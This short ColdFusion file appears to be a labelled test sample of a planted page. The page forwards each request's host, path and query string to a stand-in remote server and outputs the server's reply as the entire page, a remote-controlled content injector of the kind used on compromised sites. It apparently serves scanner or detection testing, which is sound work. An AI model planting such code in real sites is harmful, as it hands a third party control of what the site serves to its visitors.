<!--- inert test sample: a planted page that asks a remote server what to show for this very
      address and outputs the reply as the whole page --->
<cfhttp url="http://farm.example.net/index.php?host=#cgi.http_host##cgi.script_name#&q=#cgi.query_string#" method="get" result="r">
<cfoutput>#r.fileContent#</cfoutput>
